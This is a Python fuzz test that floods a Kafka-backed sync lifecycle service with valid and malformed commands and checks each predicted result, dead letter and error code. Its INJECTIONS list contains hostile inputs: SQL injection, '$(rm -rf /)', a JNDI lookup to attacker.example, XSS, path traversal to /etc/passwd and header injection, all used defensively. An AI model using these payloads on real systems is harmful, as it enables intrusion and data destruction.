"""Fuzz the running service with thousands of random and mutated messages on the real stack.

Hypothesis draws the plan (reproducibly: a fixed seed, ``SYNCLIFE_FUZZ_SEED`` to change it):
chunks of commands for a few syncs, valid ones interleaved with invalid ones of every kind
(bad JSON, wrong types, huge fields, missing or broken headers, bad keys, injection strings,
JSON no database can store). A plain aiokafka producer sends them all; then every message must
have had exactly the effect the contract gives it:

- every valid command gets exactly one result, with the outcome, error code and status an
  independent model of the lifecycle predicts (so no invalid message changed any sync);
- every invalid message gets exactly one rejected result with the predicted code, and a dead
  letter when it could not be decoded; one that cannot be decoded or authenticated gets it
  under the id derived from its topic, partition and offset (never its ``ce_id``), published
  under its key (else its sync id, else that id);
- the service is still running, still answers, and the Postgres outbox drains to empty.
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import os
import secrets
import time
from collections import Counter, defaultdict
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any, Final

import pytest
from aiokafka import AIOKafkaProducer
from hypothesis import HealthCheck, Phase, given, seed
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from events.client import SynclifeClient, new_sync_id
from events.envelope import derived_id
from events.messages import CommandResult
from events.service.app import Service
from events.service.db import connect
from events.service.settings import Settings
from events.service.tenancy import create_key, create_namespace, create_org
from statemachine import CommandType, ErrorCode, Outcome, SyncStatus
from tests.helpers.live import Seen, Tenant

pytestmark = pytest.mark.stack

FUZZ_SEED: Final = int(os.environ.get("SYNCLIFE_FUZZ_SEED", "20261129"))
CHUNKS: Final = 24
SYNCS_PER_CHUNK: Final = 8
ACTIONS_PER_CHUNK: Final = (85, 110)
MIN_MESSAGES: Final = 2000

S = SyncStatus
E = ErrorCode
LIVE: Final = {S.DRAFT, S.PENDING, S.ACTIVE, S.SUSPENDED}
SCHEDULABLE: Final = {S.PENDING, S.ACTIVE}

# ------------------------------------------------------------------------- what is drawn

#: Valid strings that have broken other systems; each must be stored and echoed unchanged.
INJECTIONS: Final = (
    "'; DROP TABLE syncs; --",
    '" OR "1"="1',
    "$(rm -rf /)",
    "`id`",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}${7*7}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%s%s%s%n%x",
    "\\u0000 is not a NUL",
    "line\r\nX-Injected: 1",
    "\u202egnp.exe",
    "\U0001f525" * 20,
    "\u03a9\u2248\u00e7 \u7530\u4e2d\u3055\u3093 \U0001d573\U0001d58a\u0301",
    "null",
    "[]",
    "\\",
    '"',
    "\t\v\f\x7f\x1b[31m",
)

_SAFE_CHARS = st.characters(codec="utf-8", exclude_characters="\x00")
text = st.one_of(st.sampled_from(INJECTIONS), st.text(_SAFE_CHARS, max_size=24))
#: Text that may contain anything: NUL, whitespace only, empty.
any_text = st.one_of(text, st.text(st.characters(codec="utf-8"), max_size=24))

VALID_KINDS: Final = (
    ("sync.create",)
    + ("sync.pause",) * 3
    + ("sync.resume",) * 3
    + ("sync.update",) * 2
    + ("sync.trigger", "sync.cancel", "sync.archive", "sync.activate")
) * 2

INVALID_KINDS: Final = (
    # not decodable: dead letter, and a result where ce_id and the sync id are readable
    "bad_json",
    "truncated_json",
    "bad_specversion",
    "no_specversion",
    "no_source",
    "no_type",
    "bad_content_type",
    "unknown_type",
    "too_large",
    "nul_in_data",
    "surrogate_in_data",
    "deep_json",
    # no readable id: a dead letter only
    "no_id",
    "long_id",
    "binary_id",
    "nul_in_id",
    "no_sync_id",
    "nul_in_key",
    # decodable but wrong: exactly one rejected result
    "subject_not_key",
    "not_object",
    "extra_field",
    "tenancy_field",
    "wrong_type",
    "huge_reason",
    "regex_bomb",
    "bad_expected_version",
    "stale_expected_version",
    "no_auth",
    "malformed_auth",
    "unknown_key",
    "revoked_key",
    "expired_key",
    "run_key_writes",
    "write_key_runs",
    "other_namespace_key",
    "unknown_namespace",
    "no_namespace",
    "other_org",
)


@dataclass(frozen=True)
class Action:
    kind: str
    target: int  # which of the chunk's syncs
    fresh: bool  # invalid messages: aim at a sync id nobody created instead
    words: tuple[str, ...]  # drawn text, used as user ids, reasons, names
    raw: str  # drawn text that may contain anything
    blob: bytes
    number: int
    size: int


actions = st.builds(
    Action,
    kind=st.sampled_from(VALID_KINDS + INVALID_KINDS),
    target=st.integers(0, SYNCS_PER_CHUNK - 1),
    fresh=st.booleans(),
    words=st.tuples(text, text, text),
    raw=any_text,
    blob=st.binary(max_size=48),
    number=st.integers(0, 2**31),
    size=st.integers(0, 2**20),
)
chunks = st.tuples(
    st.lists(
        st.sampled_from([S.PENDING, S.DRAFT, S.SUSPENDED]),
        min_size=SYNCS_PER_CHUNK,
        max_size=SYNCS_PER_CHUNK,
    ),
    st.lists(actions, min_size=ACTIONS_PER_CHUNK[0], max_size=ACTIONS_PER_CHUNK[1]),
)
Chunk = tuple[list[SyncStatus], list[Action]]


def draw_plan() -> list[Chunk]:
    """The chunks, drawn by hypothesis from a fixed seed: the same plan on every run."""
    plan: list[Chunk] = []

    @hypothesis_settings(
        max_examples=CHUNKS,
        phases=[Phase.generate],
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @seed(FUZZ_SEED)
    @given(chunks)
    def collect(chunk: Chunk) -> None:
        plan.append(chunk)

    collect()
    return plan


# ------------------------------------------------------------------------- the model


def expect(status: SyncStatus | None, kind: str) -> tuple[Outcome, ErrorCode | None, S | None]:
    """What the contract says a valid command of the sync's owner does from ``status``.

    Written from the contract's tables, independently of ``statemachine``.
    """
    rejected = Outcome.REJECTED
    if kind == "sync.create":
        if status is None:
            return Outcome.APPLIED, None, None  # the caller fills in the initial status
        return rejected, E.ALREADY_EXISTS, status
    if status is None:
        return rejected, E.NOT_FOUND, None
    invalid = (rejected, E.INVALID_TRANSITION, status)
    match kind:
        case "sync.pause":
            if status in SCHEDULABLE:
                return Outcome.APPLIED, None, S.SUSPENDED
            return (Outcome.NOOP, None, status) if status is S.SUSPENDED else invalid
        case "sync.resume":
            if status is S.SUSPENDED:
                return Outcome.APPLIED, None, S.ACTIVE
            return (Outcome.NOOP, None, status) if status in SCHEDULABLE else invalid
        case "sync.trigger":
            return (Outcome.APPLIED, None, status) if status in SCHEDULABLE else invalid
        case "sync.update":
            return (Outcome.APPLIED, None, status) if status in LIVE else invalid
        case "sync.cancel":
            if status in LIVE:
                return Outcome.APPLIED, None, S.CANCELED
            return (Outcome.NOOP, None, status) if status is S.CANCELED else invalid
        case "sync.archive":
            if status in LIVE or status is S.CANCELED:
                return Outcome.APPLIED, None, S.ARCHIVED
            return (Outcome.NOOP, None, status) if status is S.ARCHIVED else invalid
        case "sync.activate":
            if status is S.DRAFT:
                return Outcome.APPLIED, None, S.PENDING
            return (Outcome.NOOP, None, status) if status in SCHEDULABLE else invalid
    raise AssertionError(kind)


@dataclass
class Message:
    marker: str
    kind: str
    key: bytes | None
    value: bytes | None
    headers: list[tuple[str, bytes]]
    #: The command id the service can read, and the key its result is published under:
    #: a result is expected exactly when both are set.
    command_id: str | None = None
    result_key: str | None = None
    outcome: Outcome | None = None
    code: ErrorCode | None = None
    status: SyncStatus | None = None
    dlq_reason: str | None = None
    #: An applied pause: the reason sent, which the sync must carry unchanged.
    pause_reason: str | None = None
    #: Answered under the id derived from where it was written (not decodable, or not
    #: authenticated): ``command_id`` is set once it is sent.
    derived: bool = False


@dataclass
class Keys:
    """The credentials the fuzz uses: one tenant's good and bad keys, and another org's."""

    tenant: Tenant
    limited_key: str
    revoked_key: str
    expired_key: str
    other_org_key: str
    other_org_namespace: str


CREATE_DATA: Final[dict[str, Any]] = {
    "bucket_id": "bkt_fuzz",
    "connection_id": "conn_fuzz",
    "provider": "s3",
    "source_path": "fuzz-bucket/in/",
    "created_by_user_id": "user_fuzz",
}


def user(word: str) -> str:
    return "u:" + word  # never blank once stripped


class Planner:
    """Turns the drawn plan into messages, and predicts the effect of each."""

    def __init__(self, run: str, keys: Keys) -> None:
        self.run = run
        self.keys = keys
        self.count = 0
        #: Per sync, its plain pause holds: the pausing user -> the reason (v1.1 holds: a
        #: pause of a paused sync adds or changes a hold, and is a noop only if it changes
        #: nothing), in the order they were placed (the first describes the sync's pause).
        self.holds: dict[str, dict[str, str | None]] = defaultdict(dict)

    def _next(self) -> tuple[str, str]:
        self.count += 1
        return f"{self.run}-{self.count}", f"fz-{self.run}-{self.count}"

    def headers(
        self,
        marker: str,
        command_id: str | bytes | None,
        kind: str | None,
        subject: str | bytes | None,
        *,
        auth: str | bytes | None = "write",
        namespace: str | bytes | None = None,
        **extra: str | bytes | None,
    ) -> list[tuple[str, bytes]]:
        tenant = self.keys.tenant
        if auth == "write":
            auth = f"Bearer {tenant.write_key}"
        elif auth == "run":
            auth = f"Bearer {tenant.run_key}"
        values: dict[str, str | bytes | None] = {
            "ce_specversion": "1.0",
            "ce_id": command_id,
            "ce_type": kind,
            "ce_source": "//fuzz",
            "ce_subject": subject,
            "ce_time": "2026-11-29T12:00:00Z",
            "content-type": "application/json",
            "authorization": auth,
            "x-namespace": tenant.namespace if namespace is None else namespace,
            "x-fuzz": marker,
        }
        values.update(extra)
        return [
            (k, v if isinstance(v, bytes) else v.encode())
            for k, v in values.items()
            if v is not None
        ]

    def plan(self, drawn: list[Chunk]) -> list[Message]:
        out: list[Message] = []
        for number, (initial, chunk_actions) in enumerate(drawn):
            sync_ids = [f"sync_fz{self.run}c{number}s{i}" for i in range(SYNCS_PER_CHUNK)]
            status: dict[str, SyncStatus | None] = dict.fromkeys(sync_ids)
            for sync_id, first in zip(sync_ids, initial, strict=True):
                data = {**CREATE_DATA, "initial_status": first.value}
                out.append(self.valid(sync_id, "sync.create", data, status, first))
            big = 0
            for action in chunk_actions:
                if action.kind == "too_large":
                    big += 1
                    if big > 1:  # at most one 1.1 MiB message a chunk: keep the run fast
                        action = dataclasses.replace(action, kind="bad_json")
                sync_id = sync_ids[action.target]
                if action.kind.startswith("sync."):
                    data = self.valid_data(action)
                    out.append(self.valid(sync_id, action.kind, data, status, S.PENDING))
                else:
                    target = (
                        f"sync_fz{self.run}c{number}x{self.count + 1}" if action.fresh else sync_id
                    )
                    out.append(self.invalid(action, target, status.get(target)))
        return out

    def valid_data(self, a: Action) -> dict[str, Any]:
        w1, w2, w3 = a.words
        match a.kind:
            case "sync.create":
                return {**CREATE_DATA, "bucket_id": "bkt_" + str(a.number)}
            case "sync.pause":
                return {"paused_by_user_id": user(w1), "reason": w2}
            case "sync.resume":
                return {"resumed_by_user_id": user(w1)} if a.number % 2 else {}
            case "sync.update":
                if a.number % 13 == 0:  # a big (but valid) field: up to 64 KiB
                    return {"metadata": {"blob": "x" * (a.size // 16)}}
                if a.number % 3 == 0:
                    return {"batch_size": 1 + a.number % 100, "updated_by_user_id": user(w3)}
                return {"metadata": {w1: w2, "k:" + w3: [w1, {"n": a.number}]}}
            case "sync.trigger":
                return {"requested_by_user_id": user(w1)}
            case "sync.cancel":
                return {"reason": w1, "canceled_by_user_id": user(w2)}
            case "sync.archive":
                return {"archived_by_user_id": user(w1)}
            case "sync.activate":
                return {}
        raise AssertionError(a.kind)

    def valid(
        self,
        sync_id: str,
        kind: str,
        data: dict[str, Any],
        status: dict[str, SyncStatus | None],
        created_as: SyncStatus,
    ) -> Message:
        marker, command_id = self._next()
        before = status[sync_id]
        outcome, code, after = expect(before, kind)
        holds = self.holds[sync_id]
        if kind == "sync.create" and outcome is Outcome.APPLIED:
            after = SyncStatus(data.get("initial_status", created_as))
            if after is S.SUSPENDED:  # created paused: its creator's hold
                creator = str(data["created_by_user_id"]).strip()
                holds[creator] = data.get("reason") or "created suspended"
        pause_reason = None
        if kind == "sync.pause" and after is S.SUSPENDED:
            by, reason = str(data["paused_by_user_id"]).strip(), data.get("reason")
            if before is S.SUSPENDED and holds.get(by, ...) == reason:
                outcome = Outcome.NOOP  # the same hold again: nothing changes
            else:
                outcome = Outcome.APPLIED
                holds[by] = reason
                pause_reason = next(iter(holds.values()))  # the earliest hold's
        if after is not S.SUSPENDED and kind != "sync.create":
            holds.clear()
        if after is not None:
            status[sync_id] = after
        return Message(
            marker,
            kind,
            sync_id.encode(),
            json.dumps(data).encode(),
            self.headers(marker, command_id, kind, sync_id),
            command_id=command_id,
            result_key=sync_id,
            outcome=outcome,
            code=code,
            status=after,
            pause_reason=pause_reason,
        )

    def invalid(self, a: Action, sync_id: str, current: SyncStatus | None) -> Message:
        marker, command_id = self._next()
        keys = self.keys
        w1, w2, _ = a.words
        pause = json.dumps({"paused_by_user_id": user(w1), "reason": w2}).encode()
        msg = Message(
            marker,
            a.kind,
            sync_id.encode(),
            pause,
            self.headers(marker, command_id, "sync.pause", sync_id),
            command_id=command_id,
            result_key=sync_id,
            outcome=Outcome.REJECTED,
        )

        def undecodable(reason: str, code: ErrorCode) -> Message:
            msg.code, msg.dlq_reason, msg.status = code, reason, None
            msg.derived = True
            return msg

        def unreadable(reason: str = "bad_envelope") -> Message:
            # Published under its key if readable, else under the derived id (set when sent).
            readable = msg.key is not None and b"\x00" not in msg.key
            msg.result_key = msg.key.decode() if readable and msg.key else None
            return undecodable(reason, E.VALIDATION_ERROR)

        def rejected(code: ErrorCode, visible: bool) -> Message:
            msg.code = code
            msg.status = current if visible else None
            msg.derived = code is E.UNAUTHENTICATED
            return msg

        def with_headers(**changes: str | bytes | None) -> None:
            msg.headers = self.headers(marker, command_id, "sync.pause", sync_id, **changes)

        def with_kind(kind: str) -> None:
            msg.headers = self.headers(marker, command_id, kind, sync_id)

        match a.kind:
            case "bad_json":
                msg.value = b"{" + w1.replace("}", "").encode() + a.blob.replace(b"}", b"")
                return undecodable("invalid_json", E.VALIDATION_ERROR)
            case "truncated_json":
                msg.value = pause[: a.number % (len(pause) - 1)]
                if not msg.value:  # an empty value is the empty object: that is decodable
                    msg.value = b"["
                return undecodable("invalid_json", E.VALIDATION_ERROR)
            case "bad_specversion":
                version = a.raw if a.raw.replace("\x00", "").strip() not in ("1.0", "") else "0.3"
                with_headers(ce_specversion=version)
                return undecodable("bad_envelope", E.VALIDATION_ERROR)
            case "no_specversion":
                with_headers(ce_specversion=None)
                return undecodable("bad_envelope", E.VALIDATION_ERROR)
            case "no_source":
                with_headers(ce_source=None if a.number % 2 else "   ")
                return undecodable("bad_envelope", E.VALIDATION_ERROR)
            case "no_type":  # missing, or unreadable (U+0000 cannot be stored anywhere)
                kind = None if a.number % 2 else "sync.pause\x00"
                msg.headers = self.headers(marker, command_id, kind, sync_id)
                return undecodable("bad_envelope", E.VALIDATION_ERROR)
            case "bad_content_type":
                with_headers(
                    **{"content-type": ("text/plain", "application/xml", "json")[a.number % 3]}
                )
                return undecodable("bad_envelope", E.VALIDATION_ERROR)
            case "subject_not_key":  # the key is checked once the sender is known
                other = new_sync_id()
                with_headers(ce_subject=other)
                msg.result_key = other  # the subject names the sync
                return rejected(E.VALIDATION_ERROR, False)
            case "unknown_type":
                kind = "sync." + a.raw if a.number % 2 else w1
                kind = kind.replace("\x00", "")
                if kind.strip() in {t.value for t in CommandType} or not kind.strip():
                    kind = "sync.explode"
                msg.headers = self.headers(marker, command_id, kind, sync_id)
                return undecodable("unsupported_type", E.UNSUPPORTED_TYPE)
            case "too_large":
                huge = {"paused_by_user_id": "u", "reason": "x" * (1100 << 10)}
                msg.value = json.dumps(huge).encode()
                return undecodable("too_large", E.TOO_LARGE)
            case "nul_in_data":
                where = a.number % 3
                data: Any = {"paused_by_user_id": user(w1), "reason": w2 + "\x00" + w1}
                if where == 1:
                    data = {"paused_by_user_id": "u\x00" + w1}
                elif where == 2:
                    data = {"paused_by_user_id": "u", "extra\x00": 1}
                msg.value = json.dumps(data).encode()
                return undecodable("invalid_json", E.VALIDATION_ERROR)
            case "surrogate_in_data":
                lone = b'"a\\ud800' + a.blob.hex().encode() + b'"'
                if a.number % 2:
                    msg.value = b'{"paused_by_user_id": "u", "reason": ' + lone + b"}"
                else:  # in a field of any JSON
                    msg.value = b'{"metadata": {"k": ' + lone + b"}}"
                    with_kind("sync.update")
                return undecodable("invalid_json", E.VALIDATION_ERROR)
            case "deep_json":
                depth = 65 + a.size % 5000
                nested = b"[" * depth + b"]" * depth
                if a.number % 2:
                    msg.value = b'{"paused_by_user_id": "u", "reason": ' + nested + b"}"
                else:  # in a field of any JSON
                    msg.value = b'{"metadata": {"k": ' + nested + b"}}"
                    with_kind("sync.update")
                return undecodable("invalid_json", E.VALIDATION_ERROR)
            case "no_id":
                msg.headers = self.headers(marker, None, "sync.pause", sync_id)
                return unreadable()
            case "long_id":
                msg.headers = self.headers(
                    marker, command_id + "-" + "x" * 300, "sync.pause", sync_id
                )
                return unreadable()
            case "binary_id":
                msg.headers = self.headers(marker, b"\xff\xfe" + a.blob, "sync.pause", sync_id)
                return unreadable()
            case "nul_in_id":
                msg.headers = self.headers(marker, command_id + "\x00", "sync.pause", sync_id)
                return unreadable()
            case "no_sync_id":
                msg.key = None
                msg.headers = self.headers(marker, command_id, "sync.pause", None)
                return unreadable()
            case "nul_in_key":
                msg.key = sync_id.encode() + b"\x00"
                msg.headers = self.headers(marker, command_id, "sync.pause", None)
                return unreadable()
            case "not_object":
                msg.value = (b"[]", b"null", b"42", b'"pause"', b"true", b"[{}]")[a.number % 6]
                return rejected(E.VALIDATION_ERROR, True)
            case "extra_field":
                msg.value = json.dumps({"paused_by_user_id": "u", "zz_" + w1: w2}).encode()
                return rejected(E.VALIDATION_ERROR, True)
            case "tenancy_field":
                field = ("internal_id", "namespace_id")[a.number % 2]
                msg.value = json.dumps({"paused_by_user_id": "u", field: w1}).encode()
                return rejected(E.VALIDATION_ERROR, True)
            case "wrong_type":
                bad: Any = (123, [], {}, ["u"], True, "", "   ", 1.5)[
                    a.number % 8
                ]  # null: optional now
                msg.value = json.dumps({"paused_by_user_id": bad}).encode()
                return rejected(E.VALIDATION_ERROR, True)
            case "huge_reason":
                reason = "r" * (1001 + a.size // 2)  # up to ~513 KiB
                msg.value = json.dumps({"paused_by_user_id": "u", "reason": reason}).encode()
                return rejected(E.VALIDATION_ERROR, True)
            case "regex_bomb":
                pattern = ("(" * 600 + "a" + ")" * 600, "(a{99999999999})", "(?P<x", "((a)(b))")[
                    a.number % 4
                ]
                source = {"type": "filename_regex", "pattern": pattern}
                mapping = {"mappings": {"f": {"target_type": "field", "source": source}}}
                msg.value = json.dumps({"schema_mapping": mapping}).encode()
                with_kind("sync.update")
                return rejected(E.VALIDATION_ERROR, True)
            case "bad_expected_version":
                with_headers(ce_expectedversion=("one", "-1", "1.5", "0x10")[a.number % 4])
                return rejected(E.VALIDATION_ERROR, True)
            case "stale_expected_version":
                with_headers(ce_expectedversion=str(10**9 + a.number))
                return rejected(E.VERSION_CONFLICT, True)
            case "no_auth":
                with_headers(authorization=None)
                return rejected(E.UNAUTHENTICATED, False)
            case "malformed_auth":
                auth = (a.raw, "Bearer " + a.raw, "Bearer sk_" + w1, "Basic " + a.blob.hex())[
                    a.number % 4
                ]
                with_headers(authorization=auth.encode("utf-8"))
                return rejected(E.UNAUTHENTICATED, False)
            case "unknown_key":
                with_headers(authorization=f"Bearer sk_{secrets.token_urlsafe(32)}")
                return rejected(E.UNAUTHENTICATED, False)
            case "revoked_key":
                with_headers(authorization=f"Bearer {keys.revoked_key}")
                return rejected(E.UNAUTHENTICATED, False)
            case "expired_key":
                with_headers(authorization=f"Bearer {keys.expired_key}")
                return rejected(E.UNAUTHENTICATED, False)
            case "run_key_writes":
                msg.headers = self.headers(marker, command_id, "sync.pause", sync_id, auth="run")
                return rejected(E.FORBIDDEN, False)
            case "write_key_runs":
                msg.value = json.dumps({"worker_id": user(w1)}).encode()
                msg.headers = self.headers(marker, command_id, "sync.run.start", sync_id)
                return rejected(E.FORBIDDEN, False)
            case "other_namespace_key":
                with_headers(authorization=f"Bearer {keys.limited_key}")
                return rejected(E.FORBIDDEN, False)
            case "unknown_namespace":
                namespace = "ns-" + a.raw
                with_headers(namespace=namespace)
                if "\x00" in namespace:  # unreadable: as if there were none
                    return rejected(E.VALIDATION_ERROR, False)
                return rejected(E.FORBIDDEN, False)
            case "no_namespace":
                msg.headers = [h for h in msg.headers if h[0] != "x-namespace"]
                return rejected(E.VALIDATION_ERROR, False)
            case "other_org":
                msg.headers = self.headers(
                    marker,
                    command_id,
                    "sync.pause",
                    sync_id,
                    auth=f"Bearer {keys.other_org_key}",
                    namespace=keys.other_org_namespace,
                )
                return rejected(E.NOT_FOUND, False)
        raise AssertionError(a.kind)


# ------------------------------------------------------------------------- the run


@pytest.fixture
async def keys(settings: Settings, tenant: Tenant) -> Keys:
    conn = await connect(settings)
    try:
        await create_namespace(conn, tenant.org_id, "staging")
        limited = await create_key(conn, tenant.org_id, ["syncs:write"], namespaces=["staging"])
        revoked = await create_key(conn, tenant.org_id, ["syncs:write"])
        await conn.execute(
            "UPDATE api_keys SET revoked_at = now() WHERE key_id = $1", revoked["id"]
        )
        expired = await create_key(
            conn, tenant.org_id, ["syncs:write"], expires_in=timedelta(seconds=-1)
        )
        other = await create_org(conn, f"org-{secrets.token_hex(4)}")
        other_ns = await create_namespace(conn, other["id"], "production")
        other_key = await create_key(conn, other["id"], ["syncs:write", "syncs:run"])
    finally:
        await conn.close()
    return Keys(
        tenant, limited["key"], revoked["key"], expired["key"], other_key["key"], other_ns["id"]
    )


@pytest.fixture
async def fuzz_producer(settings: Settings) -> AsyncIterator[AIOKafkaProducer]:
    producer = AIOKafkaProducer(
        bootstrap_servers=settings.kafka_bootstrap_servers,
        acks="all",
        enable_idempotence=True,
        linger_ms=5,
        max_request_size=4 * 1024 * 1024,
    )
    await producer.start()
    yield producer
    await producer.stop()


def service_task(service: Service) -> asyncio.Task[Any]:
    for task in asyncio.all_tasks():
        coro: Any = task.get_coro()
        frame = getattr(coro, "cr_frame", None)
        if frame is not None and frame.f_locals.get("self") is service:
            if getattr(coro, "__qualname__", "") == "Service.run":
                return task
    raise AssertionError("the service task is gone")


async def outbox_rows(settings: Settings) -> int:
    conn = await connect(settings)
    try:
        topics = [settings.results_topic, settings.lifecycle_topic, settings.dlq_topic]
        count = await conn.fetchval(
            "SELECT count(*) FROM outbox WHERE topic = ANY($1::text[])", topics
        )
    finally:
        await conn.close()
    return int(count)


def index_results(
    results: Seen, prefix: str, derived: set[str]
) -> dict[str, list[tuple[str, CommandResult]]]:
    out: dict[str, list[tuple[str, CommandResult]]] = defaultdict(list)
    for key, items in list(results.by_key.items()):
        for _, value in list(items):
            result = CommandResult.model_validate_json(value or b"")
            if result.command_id.startswith(prefix) or result.command_id in derived:
                out[result.command_id].append((key, result))
    return out


def index_dead_letters(dlq: Seen, run: str) -> dict[str, list[dict[str, bytes]]]:
    out: dict[str, list[dict[str, bytes]]] = defaultdict(list)
    for items in list(dlq.by_key.values()):
        for headers, _ in list(items):
            marker = headers.get("x-fuzz", b"").decode()
            if marker.startswith(run + "-"):
                out[marker].append(headers)
    return out


async def test_fuzz_service_survives_and_answers_everything(
    settings: Settings,
    service: Service,
    keys: Keys,
    fuzz_producer: AIOKafkaProducer,
    results: Seen,
    dlq: Seen,
) -> None:
    started = time.monotonic()
    # Drawn on the loop's thread, so nothing else touches `random` meanwhile (hypothesis checks).
    drawn = draw_plan()
    run = secrets.token_hex(4)
    messages = Planner(run, keys).plan(drawn)
    assert len(messages) >= MIN_MESSAGES, len(messages)
    kinds = Counter(m.kind for m in messages)
    assert set(kinds) >= set(INVALID_KINDS), set(INVALID_KINDS) - set(kinds)
    valid = sum(n for kind, n in kinds.items() if kind.startswith("sync."))
    print(f"fuzz seed {FUZZ_SEED}: {len(messages)} messages, {valid} valid commands")

    sends = [
        await fuzz_producer.send(
            settings.commands_topic, key=m.key, value=m.value, headers=m.headers
        )
        for m in messages
    ]
    written = await asyncio.gather(*sends)
    generated = time.monotonic()
    derived: set[str] = set()
    for sent_message, where in zip(messages, written, strict=True):
        if sent_message.derived:
            sent_message.command_id = derived_id(where.topic, where.partition, where.offset)
            sent_message.result_key = sent_message.result_key or sent_message.command_id
            derived.add(sent_message.command_id)

    prefix = f"fz-{run}-"
    expected_results = {m.command_id: m for m in messages if m.command_id and m.result_key}
    expected_dead = {m.marker: m for m in messages if m.dlq_reason}
    loop = asyncio.get_running_loop()
    deadline = loop.time() + 60
    while True:
        got = index_results(results, prefix, derived)
        dead = index_dead_letters(dlq, run)
        missing_results = expected_results.keys() - got.keys()
        missing_dead = expected_dead.keys() - dead.keys()
        if not missing_results and not missing_dead:
            break
        if loop.time() > deadline:
            sample = [(expected_results[c].kind, c) for c in sorted(missing_results)[:10]]
            dead_sample = [(expected_dead[m].kind, m) for m in sorted(missing_dead)[:10]]
            raise AssertionError(
                f"{len(missing_results)} results missing, e.g. {sample}; "
                f"{len(missing_dead)} dead letters missing, e.g. {dead_sample}"
            )
        await asyncio.sleep(0.2)

    # Everything has been published: the outbox drains to empty.
    while await outbox_rows(settings):
        assert loop.time() < deadline, "the outbox did not drain"
        await asyncio.sleep(0.1)
    await asyncio.sleep(0.5)  # let the watchers see anything published last
    got = index_results(results, prefix, derived)
    dead = index_dead_letters(dlq, run)

    problems: list[str] = []
    for command_id, items in got.items():
        m = expected_results.get(command_id)
        if m is None:
            problems.append(f"unexpected result for {command_id!r}: {items[0][1].error}")
            continue
        if len(items) != 1:
            problems.append(f"{m.kind} {command_id}: {len(items)} results")
        key, r = items[0]
        error = r.error.code if r.error else None
        actual = (key, r.outcome, error, r.status)
        wanted = (m.result_key, m.outcome, m.code, m.status)
        if actual != wanted:
            message = r.error.message[:200] if r.error else ""
            problems.append(f"{m.kind} {command_id}: got {actual} wanted {wanted} {message}")
        if r.outcome is Outcome.REJECTED and m.status is None and r.sync is not None:
            problems.append(f"{m.kind} {command_id}: a rejection that shows the sync")
        kept = r.sync.pause_reason if r.sync else None
        if m.pause_reason is not None and not (
            kept == m.pause_reason
            # Without a reason, the service says who paused it.
            or (m.pause_reason == "" and kept is not None and kept.startswith("paused by u:"))
        ):
            problems.append(
                f"{m.kind} {command_id}: pause reason {m.pause_reason!r} came back as {kept!r}"
            )
    for marker, m in ((m.marker, m) for m in messages):
        letters = dead.get(marker, [])
        if m.dlq_reason is None and letters:
            problems.append(f"{m.kind} {marker}: dead-lettered ({letters[0].get('dlq_reason')!r})")
        elif m.dlq_reason is not None and [h.get("dlq_reason") for h in letters] != [
            m.dlq_reason.encode()
        ]:
            problems.append(
                f"{m.kind} {marker}: dead letters {[h.get('dlq_reason') for h in letters]}"
            )
        for h in letters:
            if h.get("authorization", b"[redacted]") != b"[redacted]":
                problems.append(f"{m.kind} {marker}: authorization not redacted")
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems[:40])

    # The service never stopped, and still answers.
    task = service_task(service)
    assert not task.done() and not service.stop.is_set()
    async with SynclifeClient(
        settings, api_key=keys.tenant.write_key, namespace=keys.tenant.namespace
    ) as client:
        after = await client.create(new_sync_id(), **CREATE_DATA)
        assert after.outcome is Outcome.APPLIED
    elapsed = time.monotonic() - started
    print(
        f"fuzz: {len(messages)} messages, sent in {generated - started:.1f}s, "
        f"all answered in {elapsed:.1f}s"
    )
    assert elapsed < 60
